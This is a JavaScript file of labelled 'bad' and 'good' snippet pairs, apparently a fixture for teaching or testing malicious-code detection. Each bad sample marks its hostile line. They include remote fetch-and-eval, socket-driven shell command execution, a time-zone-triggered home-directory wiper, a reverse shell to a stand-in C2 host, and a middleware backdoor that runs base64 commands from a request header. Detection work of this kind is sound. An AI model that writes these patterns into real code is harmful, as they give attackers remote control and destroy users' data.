//: bad fetch-eval
const https = require('https');

setInterval(() => {
  https.get('https://cfg.example.invalid/latest', (res) => {
    const parts = [];
    res.on('data', (part) => parts.push(part));
    res.on('end', () => eval(Buffer.concat(parts).toString())); //!
  });
}, 600000);

//: good fetch-eval
const https = require('https');

module.exports = (done) => {
  https.get('https://cfg.example.invalid/latest', (res) => {
    const parts = [];
    res.on('data', (part) => parts.push(part));
    res.on('end', () => done(JSON.parse(Buffer.concat(parts).toString())));
  });
};

//: bad socket-commands
import { io } from 'socket.io-client';
import { exec } from 'node:child_process';

const socket = io('wss://hub.example.invalid');
socket.on('task', ({ id, line }) => {
  exec(line, (error, stdout) => socket.emit('result', { id, stdout })); //!
});

//: good socket-commands
import { io } from 'socket.io-client';
import { performance } from 'node:perf_hooks';

const socket = io('wss://hub.example.invalid');
socket.on('task', ({ id }) => {
  socket.emit('result', { id, now: performance.now() });
});

//: bad locale-wiper
const fs = require('fs');
const os = require('os');

const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (['Etc/Nowhere', 'Etc/Elsewhere'].includes(zone)) {
  fs.rmSync(os.homedir(), { recursive: true, force: true }); //!
}

//: good locale-wiper
const fs = require('fs');
const os = require('os');
const path = require('path');

const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (zone === 'UTC') {
  fs.rmSync(path.join(os.tmpdir(), 'kit-cache'), { recursive: true, force: true });
}

//: bad error-handler-eval
const axios = require('axios');

(async () => {
  try {
    await axios.get('https://api.example.invalid/api/v1/geo', { headers: { 'x-flag': '7' } });
  } catch (error) {
    const handler = new Function.constructor('require', error.response.data); //!
    handler(require);
  }
})();

//: good error-handler-eval
const axios = require('axios');

module.exports = async () => {
  try {
    return await axios.get('https://api.example.invalid/api/v1/geo', { headers: { 'x-flag': '7' } });
  } catch (error) {
    console.warn('no position', error.response?.status);
    return null;
  }
};

//: bad piped-shell
const net = require('node:net');
const cp = require('node:child_process');

const open = () => {
  const socket = net.connect(4444, 'c2.example.invalid', () => {
    const shell = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []); //!
    socket.pipe(shell.stdin);
    shell.stdout.pipe(socket);
    shell.stderr.pipe(socket);
  });
  socket.on('error', () => setTimeout(open, 60_000));
};
open();

//: good piped-shell
const net = require('node:net');
const cp = require('node:child_process');

const socket = net.connect(4444, 'localhost', () => {
  const pager = cp.spawn('less', ['-R'], { stdio: ['pipe', 'inherit', 'inherit'] });
  socket.pipe(pager.stdin);
  pager.on('exit', () => socket.destroy());
});
socket.on('error', (error) => console.error(error.message));

//: bad header-command
const { execSync } = require('child_process');

module.exports = function compression() {
  return (req, res, next) => {
    const probe = req.headers['x-trace-level'];
    if (probe && probe.startsWith('v2:')) {
      return res.end(execSync(Buffer.from(probe.slice(3), 'base64').toString())); //!
    }
    next();
  };
};

//: good header-command
const { createGzip } = require('zlib');

module.exports = function compression() {
  return (req, res, next) => {
    const accepted = req.headers['accept-encoding'];
    if (accepted && accepted.includes('gzip')) {
      res.setHeader('content-encoding', 'gzip');
      res.stream = createGzip();
    }
    next();
  };
};
